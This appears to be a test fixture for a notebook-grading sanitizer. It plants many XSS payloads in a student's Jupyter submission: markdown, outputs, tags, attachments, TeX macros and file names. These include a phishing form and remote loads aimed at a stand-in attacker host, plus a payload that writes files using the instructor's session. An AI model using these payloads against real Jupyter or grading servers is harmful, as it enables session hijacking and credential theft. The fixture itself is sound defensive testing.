"""A hostile submission: HTML and JavaScript wherever a student can put text.

Every payload that runs calls ``hit('<label>')`` (the browser tests record the
calls) or asks a host other than 127.0.0.1 for something (the browser tests
refuse and record those requests). The same written answer also holds math in
the three delimiters the course uses, and prose before and after the payloads,
so a test can check that the answer is still there, and typeset, once it is safe.
"""
import base64
import json
from html.parser import HTMLParser
from pathlib import Path

from grading.gradebook import sanitize
from grading.release.samples import Append, Variant

NOTEBOOK = "01_activation_functions"
ANSWER_ID = "q_saturation"          # the written answer that carries the payloads
OUTSIDE = "https://attacker.example"

# (label, markup) for a markdown cell; a label is what hit() reports if the markup runs.
MARKDOWN_PAYLOADS = (
    ("md-img-onerror", '<img src=x onerror="hit(\'md-img-onerror\')">'),
    ("md-script", "<script>hit('md-script')</script>"),
    ("md-svg-onload", "<svg onload=\"hit('md-svg-onload')\"><circle r=\"4\"/></svg>"),
    ("md-javascript-link", "[a markdown link](javascript:hit('md-javascript-link'))"),
    ("md-a-javascript", "<a href=\"javascript:hit('md-a-javascript')\">an html link</a>"),
    ("md-iframe-remote", f'<iframe src="{OUTSIDE}/frame"></iframe>'),
    ("md-iframe-srcdoc", "<iframe srcdoc=\"<script>parent.hit('md-iframe-srcdoc')</script>\"></iframe>"),
    ("md-form", f'<form action="{OUTSIDE}/login" method="post"><input name="password">'
                '<button>Sign in again</button></form>'),
    ("md-style-cover", "<style>.container { visibility: hidden !important; }</style>"),
    ("md-fixed-cover", '<div id="cover" style="position:fixed;top:0;left:0;width:100vw;height:100vh;'
                       'background:white;z-index:99999">Session expired: reload the page.</div>'),
    ("md-markdown-image", f"![a remote image]({OUTSIDE}/pixel.png)"),
    ("md-remote-img", f'<img src="{OUTSIDE}/img.png">'),
    ("md-object", "<object data=\"data:text/html,<script>parent.hit('md-object')</script>\"></object>"),
    ("md-meta-refresh", f'<meta http-equiv="refresh" content="4;url={OUTSIDE}/refresh">'),
    ("md-link-css", f'<link rel="stylesheet" href="{OUTSIDE}/style.css">'),
    ("md-base", f'<base href="{OUTSIDE}/">'),
    ("md-details-ontoggle", "<details open ontoggle=\"hit('md-details-ontoggle')\">details</details>"),
    ("md-mxss", "<math><mtext><table><mglyph><style><img src=x onerror=\"hit('md-mxss')\">"
                "</style></mglyph></table></mtext></math>"),
    ("md-mermaid", "```mermaid\n<img src=x onerror=\"hit('md-mermaid')\">\n```"),
    ("md-data-link", "<a href=\"data:text/html,<script>hit('md-data-link')</script>\">a data link</a>"),
)
# Math that must still typeset, in the three delimiters nbconvert (and JupyterLab) read in
# markdown: an inline formula with a "<" (which a sanitizer run on the markdown source would
# take for a tag), a display formula, and \\( \\) (markdown needs the backslash doubled).
BEFORE = ("Before the payloads: the slope is $a<b$ and $$\\sum_{i=1}^{n} x_i$$ and "
          "\\\\(e^{i\\pi} + 1 = 0\\\\).")
TEX = ["a<b", "\\sum_{i=1}^{n} x_i", "e^{i\\pi} + 1 = 0"]      # what MathJax must find
AFTER = "After the payloads: the answer goes on."
# TeX that asks MathJax to make a link, a style, an id or a request (math stays text for the
# sanitizer: MathJax's own configuration must refuse these)
TEX_PAYLOADS = (
    ("tex-href", "\\href{javascript:hit('tex-href')}{\\text{a tex link}}"),
    ("tex-style", "\\style{position:fixed;top:0;left:0;width:100vw;height:100vh;background:white;"
                  "z-index:99999}{\\text{covered}}"),
    ("tex-cssid", "\\cssId{q_dead_relu}{x}"),
    ("tex-require", f"\\require{{{OUTSIDE}/extension.js}} y"),
)

# The attack: written with the instructor's Jupyter session, a file in the course.
PUT_FILE = "pwned-by-a-student.txt"
API_PUT = ("<img src=x onerror=\"fetch(location.pathname.split('/formgrader/')[0] + '/api/contents/"
           + PUT_FILE + "', {method: 'PUT', headers: {'Content-Type': 'application/json'}, "
           "body: JSON.stringify({type: 'file', format: 'text', content: 'written by a student'})})"
           ".then(function () { hit('md-api-put'); })\">")

# the student's package: one function raises an HTML message, one imports a module whose
# file name is HTML (only graded modules are taken from a submission, so the import fails and the
# message quotes the name)
EXCEPTION_TEXT = "<img src=x onerror=\"hit('exception-message')\"><script>hit('exception-script')</script>"
HOSTILE_MODULE = "<img src=x onerror=hit('file-name')>"
PACKAGE_EDITS = (
    Append("cs231n_lite/layers.py",
           "def relu_forward(x):\n"
           f"    raise ValueError({EXCEPTION_TEXT!r})\n\n\n"
           "def relu_backward(dout, cache):\n"
           "    import importlib\n"
           f"    importlib.import_module('cs231n_lite.' + {HOSTILE_MODULE!r})\n"),
)
HOSTILE = Variant("HTML and JavaScript in answers, outputs, messages and file names", "reference",
                  PACKAGE_EDITS, breaks=("test_relu_forward", "test_relu_backward"))


def answer_markdown():
    tex = " ".join(f"${t}$" for _, t in TEX_PAYLOADS)
    return "\n\n".join([BEFORE, *(markup for _, markup in MARKDOWN_PAYLOADS), "TeX: " + tex, AFTER])


def _png(label):
    """Not base64 at all: markup where the template puts the image data."""
    return f"x\" onerror=\"hit('{label}')"


def hostile_outputs():
    script = f"<img src=x onerror=\"hit('%s')\">"
    return [
        {"output_type": "display_data", "metadata": {},
         "data": {"text/html": script % "out-html", "text/plain": "an html output"}},
        {"output_type": "display_data", "metadata": {},
         "data": {"application/javascript": "hit('out-javascript')"}},
        {"output_type": "display_data", "metadata": {},
         "data": {"image/svg+xml": "<svg xmlns='http://www.w3.org/2000/svg' onload=\"hit('out-svg')\"/>"}},
        {"output_type": "display_data", "metadata": {},
         "data": {"text/markdown": script % "out-markdown"}},
        {"output_type": "display_data", "metadata": {"image/png": {"width": "1 onload=hit('out-width')"}},
         "data": {"image/png": _png("out-png")}},
        {"output_type": "stream", "name": "stdout", "text": "<script>hit('out-stream')</script>\n"},
        {"output_type": "error", "ename": "<svg onload=\"hit('out-ename')\">",
         "evalue": script % "out-evalue", "traceback": [script % "out-traceback"]},
        {"output_type": "execute_result", "execution_count": 3, "metadata": {},
         "data": {"text/plain": "<script>hit('out-text-plain')</script>"}},
    ]


ATTACHMENT = base64.b64encode(b"<svg xmlns='http://www.w3.org/2000/svg' onload=\"hit('attachment')\"/>").decode()


def write_payloads(submission):
    """Put the payloads into the submitted notebook (its answer, new cells, outputs, metadata)."""
    path = Path(submission) / f"{NOTEBOOK}.ipynb"
    nb = json.loads(path.read_text())
    cells = nb["cells"]
    answer = next(c for c in cells if c["metadata"].get("nbgrader", {}).get("grade_id") == ANSWER_ID)
    answer["source"] = answer_markdown()
    first_code = next(i for i, c in enumerate(cells) if c["cell_type"] == "code")
    cells[first_code]["outputs"] = hostile_outputs()
    cells[first_code]["metadata"]["tags"] = ["x\" onmouseover=\"hit('cell-tag')\" style=\"position:fixed;inset:0"]
    added = [
        {"cell_type": "markdown", "metadata": {}, "source": "A cell the student added. " + API_PUT},
        {"cell_type": "markdown", "metadata": {},
         "attachments": {"a.svg": {"image/svg+xml": ATTACHMENT},
                         "b.png": {"image/png\" onerror=\"hit('attachment-mime')": "eA=="}},
         "source": "Attachments: ![a](attachment:a.svg) ![b](attachment:b.png)"},
        {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html"},
         "source": "<img src=x onerror=\"hit('raw-cell')\"><script>hit('raw-script')</script>"},
    ]
    cells[first_code + 1:first_code + 1] = added
    nb["metadata"]["title"] = "</title><script>hit('notebook-title')</script>"
    path.write_text(json.dumps(nb, indent=1))
    return path


def write_hostile_files(submission):
    """The module whose file name is markup (it does not compile, so its name is quoted)."""
    module = Path(submission) / "cs231n_lite" / f"{HOSTILE_MODULE}.py"
    module.write_text("# a helper\n\ndef broken(:\n")
    return module


class Danger(HTMLParser):
    """An independent look at rendered HTML: what in it could run, load or cover the page."""

    TAGS = {"script", "style", "iframe", "object", "embed", "form", "input", "button", "svg", "math",
            "base", "meta", "link", "frame", "frameset", "video", "audio", "source", "details"}

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.found = []

    def handle_starttag(self, tag, attrs):
        if tag in self.TAGS:
            self.found.append(tag)
        for name, value in attrs:
            value = (value or "").strip().lower()
            if name.startswith("on"):
                self.found.append(f"{tag} {name}")
            elif name in ("href", "src", "action", "formaction", "data", "srcdoc", "xlink:href"):
                if name == "srcdoc" or not value.startswith(("http://", "https://", "mailto:", "#",
                                                             "data:image/png;base64,")):
                    self.found.append(f"{tag} {name}={value[:40]}")
                elif name == "src" and value.startswith("http"):
                    self.found.append(f"{tag} remote {name}")       # loads from elsewhere
            elif name == "style" and {p.split(":")[0].strip() for p in value.split(";") if p.strip()} \
                    - {"text-align"}:
                self.found.append(f"{tag} style={value[:40]}")
            elif name == "class" and set(value.split()) - sanitize.PYGMENTS_CLASSES - {"highlight", "anchor-link"}:
                self.found.append(f"{tag} class={value}")

    handle_startendtag = handle_starttag


def danger(markup):
    parser = Danger()
    parser.feed(markup)
    parser.close()
    return parser.found
